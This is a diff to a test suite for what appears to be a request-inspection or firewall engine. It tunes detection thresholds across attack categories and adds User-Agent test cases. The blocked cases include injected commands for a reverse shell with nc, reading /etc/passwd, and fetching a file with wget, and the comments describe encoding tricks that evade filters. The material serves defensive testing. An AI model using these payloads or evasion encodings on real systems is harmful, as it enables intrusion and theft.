@@ -11,47 +11,60 @@ import { hitRate } from "../support/variants/rate.js";
 import { inspect } from "../support/engine.js";
 import { CATEGORIES, ENCODINGS, ZONES, cell, inScope } from "../support/variants/zones.js";
 
-/** Requests per cell (each cell draws its own payloads: its own seed). */
-const RUNS = 8;
+/** Requests per cell (each cell draws its own payloads: its own seed); base64 has one cell in scope, Basic credentials. */
+const RUNS = 5;
+const runsOf = (e: string) => (e === "base64" ? 30 : RUNS);
 const SEED = 20261128;
 
-/** Per category: the hit rate over its in-scope cells together, and the lowest any one cell may have. */
-const ROWS: Record<string, { atLeast: number; cellFloor: number }> = {
-  sqli: { atLeast: 1, cellFloor: 1 },
-  xss: { atLeast: 0.99, cellFloor: 0.85 },
-  rce: { atLeast: 0.98, cellFloor: 0.6 }, // Basic credentials: `user:password` appended to a command line
-  lfi: { atLeast: 0.99, cellFloor: 0.75 }, // an overlong `%` before a double-encoded slash (`%C0%A5252f`): three layers
+/**
+ * Per category: the hit rate its in-scope cells reach together, and the lowest rate of one zone (over
+ * its encodings) or one encoding (over its zones): a zone or an encoding the engine does not read
+ * shows there, a payload the generator draws once does not.
+ */
+const ROWS: Record<string, { atLeast: number; floor: number }> = {
+  sqli: { atLeast: 1, floor: 1 },
+  xss: { atLeast: 0.99, floor: 0.9 }, // \u escapes over a vector that has its own: `\u005cu003c`
+  rce: { atLeast: 0.98, floor: 0.85 }, // Basic credentials: `user:password` appended to a command line
+  lfi: { atLeast: 0.98, floor: 0.9 }, // an overlong `%` before a double-encoded slash (`%C0%A5252f`): three layers
   // an include URL counts only in a parameter named for a file (the zones use q, id, data, search, value);
   // a UNC path after a path segment (`/files/\\host\share`) is not read as one
-  rfi: { atLeast: 0.9, cellFloor: 0.6 },
+  rfi: { atLeast: 0.9, floor: 0.7 },
   // scheme-relative and scheme-less URLs after a path segment (`/files///169.254.169.254/`) read as a path
-  ssrf: { atLeast: 0.9, cellFloor: 0.25 },
-  ssti: { atLeast: 1, cellFloor: 1 },
-  java: { atLeast: 0.98, cellFloor: 0.85 },
-  php: { atLeast: 0.98, cellFloor: 0.75 },
-  nodejs: { atLeast: 1, cellFloor: 1 },
-  ldap: { atLeast: 0.98, cellFloor: 0.85 }, // full-width `%00` folds to the three letters, not to a NUL
-  nosql: { atLeast: 1, cellFloor: 1 },
-  xxe: { atLeast: 1, cellFloor: 1 },
+  ssrf: { atLeast: 0.93, floor: 0.5 },
+  ssti: { atLeast: 1, floor: 1 },
+  java: { atLeast: 0.98, floor: 0.9 },
+  php: { atLeast: 0.98, floor: 0.9 },
+  nodejs: { atLeast: 1, floor: 1 },
+  // full-width `%00` folds to the three letters, not to a NUL; `*))%00:secret` as Basic credentials
+  ldap: { atLeast: 0.98, floor: 0.85 },
+  nosql: { atLeast: 0.99, floor: 0.9 },
+  xxe: { atLeast: 1, floor: 1 },
 };
 
 describeFamily("category x zone x encoding matrix", {}, (h) => {
-  it.each(Object.keys(CATEGORIES))("%s: every in-scope cell", (category) => {
-    const { atLeast, cellFloor } = ROWS[category];
-    let hits = 0;
-    let total = 0;
-    const weak: string[] = [];
+  it.each(Object.keys(CATEGORIES))("%s: every zone and every encoding in scope", (category) => {
+    const { atLeast, floor } = ROWS[category];
+    const groups = new Map<string, { hits: number; total: number; miss?: unknown }>();
+    const add = (key: string, r: { hits: number; total: number; misses: unknown[] }) => {
+      const g = groups.get(key) ?? { hits: 0, total: 0 };
+      g.hits += r.hits;
+      g.total += r.total;
+      g.miss ??= r.misses[0];
+      groups.set(key, g);
+    };
     ZONES.forEach((z, i) =>
       ENCODINGS.forEach((e, j) => {
         if (!inScope(category, z, e)) return;
-        const r = hitRate(h(), cell(category, z, e), RUNS, SEED + i * 16 + j);
-        hits += r.hits;
-        total += r.total;
-        if (r.hits < cellFloor * r.total) weak.push(`${z}/${e} ${r.hits}/${r.total}: ${JSON.stringify(r.misses[0])}`);
+        const r = hitRate(h(), cell(category, z, e), runsOf(e), SEED + i * 16 + j);
+        add("all", r);
+        add(`zone ${z}`, r);
+        add(`encoding ${e}`, r);
       }),
     );
-    expect(weak, "cells under the floor").toEqual([]);
-    expect(hits / total).toBeGreaterThanOrEqual(atLeast);
+    const weak = [...groups].filter(([k, g]) => k !== "all" && g.hits < floor * g.total).map(([k, g]) => `${k} ${g.hits}/${g.total}: ${JSON.stringify(g.miss)}`);
+    expect(weak, "zones or encodings under the floor").toEqual([]);
+    const all = groups.get("all")!;
+    expect(all.hits / all.total).toBeGreaterThanOrEqual(atLeast);
   });
 
   it("covers every zone and encoding with in-scope cells", () => {
@@ -71,5 +84,24 @@ describeFamily("category x zone x encoding matrix", {}, (h) => {
     "SharedKey myaccount:ctzMq410TV3wS7upTBcunJTDLEJwMAZuFPfr0mrrA08=",
   ])("passes Authorization: %s", (v) => {
     expect(inspect(h(), { path: "/api/me", headers: [["host", "svc.local"], ["authorization", v]] }).score).toBeLessThan(5);
+  });
+
+  // A User-Agent's products and comments are no command line; what follows where they stop is read.
+  it.each([
+    "curl/8.5.0 | nc -e /bin/sh 10.0.0.1 4444", "python-requests/2.31.0 $(id)", "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/124.0 ; cat /etc/passwd",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 x&c^m^d /c dir", "Wget/1.21 `wget http://203.0.113.7/x -O /tmp/x`",
+  ])("blocks User-Agent: %s", (v) => {
+    expect(inspect(h(), { path: "/", headers: [["host", "svc.local"], ["user-agent", v]] }).score).toBeGreaterThanOrEqual(5);
+  });
+  it.each([
+    "Mozilla/5.0 (Linux; Android 12; moto g(60)) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36",
+    "Mozilla/5.0 (Linux; Android 9; SM-G960F Build/PPR1.180610.011; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/74.0.3729.157 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/222.0.0.48.113;]",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Instagram 302.0.0.23.114 (iPhone14,2; iOS 16_6; en_US; en; scale=3.00; 1170x2532; 517147011)",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36 | MyCompany Monitor",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36; cat-lover edition",
+    "aws-sdk-java/1.12.500 Linux/5.10.192 OpenJDK_64-Bit_Server_VM/17.0.8+7-LTS java/17.0.8 vendor/Amazon.com_Inc. cfg/retry-mode/standard",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Gecko/20100101 Firefox/115.0 id",
+  ])("passes User-Agent: %s", (v) => {
+    expect(inspect(h(), { path: "/", headers: [["host", "svc.local"], ["user-agent", v]] }).score).toBeLessThan(5);
   });
 });
